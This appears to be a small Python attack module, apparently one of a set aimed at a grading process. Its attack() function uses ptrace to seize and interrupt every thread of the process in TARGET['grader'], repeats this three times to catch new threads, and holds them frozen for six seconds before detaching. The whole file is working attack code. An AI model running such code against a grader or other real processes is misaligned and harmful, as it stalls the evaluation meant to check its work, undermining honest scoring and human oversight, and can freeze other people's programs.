"""Seizes every thread of the grader as a debugger would, and holds them for six seconds."""

import ctypes
import os
import time

SEIZE, INTERRUPT, DETACH = 0x4206, 0x4207, 17


def attack(A):
    libc = ctypes.CDLL(None, use_errno=True)
    threads = []
    for _ in range(3):  # while it starts new ones
        threads += [int(n) for n in os.listdir(f"/proc/{TARGET['grader']}/task")]
        for thread in dict.fromkeys(threads):
            for request in (SEIZE, INTERRUPT):
                libc.ptrace(*map(ctypes.c_long, (request, thread, 0, 0)))
    time.sleep(6)
    for thread in threads:
        libc.ptrace(*map(ctypes.c_long, (DETACH, thread, 0, 0)))
